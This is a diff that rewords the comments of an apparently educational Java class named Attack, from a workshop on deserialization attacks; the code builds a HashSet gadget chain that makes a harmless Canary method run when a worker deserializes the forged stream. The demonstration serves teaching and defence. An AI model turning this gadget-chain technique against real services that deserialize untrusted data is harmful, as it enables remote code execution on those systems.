@@ -8,8 +8,7 @@ import workshop.step01.library.Memo;
 import workshop.step01.library.MethodCall;
 
 /**
- * Your hat is black now. You can reach the broker, and you know what lies on the worker's class
- * path.
+ * Your hat is black now. You can reach the broker, and you know what is on the worker's class path.
  */
 public final class Attack {
 
@@ -17,14 +16,14 @@ public final class Attack {
 
     /**
      * A native stream that makes {@link Canary#sing} run in whatever process reads it: during
-     * {@code readObject}, so before any cast can look at the result. Made only of classes that the
-     * worker has: the JDK's and {@code workshop.step01.library}'s.
+     * {@code readObject}, before any cast can look at the result. It contains only classes that the
+     * worker has: the JDK's, and those of {@code workshop.step01.library}.
      */
     public static byte[] forge() throws IOException {
         // tag::trap[]
         var memo = new Memo(() -> "harmless while we build");
         var trap = new HashSet<Object>();
-        // This asks for its hash code; HashSet.readObject will ask again.
+        // This calls hashCode(). HashSet.readObject will call it again.
         trap.add(memo);
         memo.setRecipe(new MethodCall(Canary.class, "sing"));
         // end::trap[]
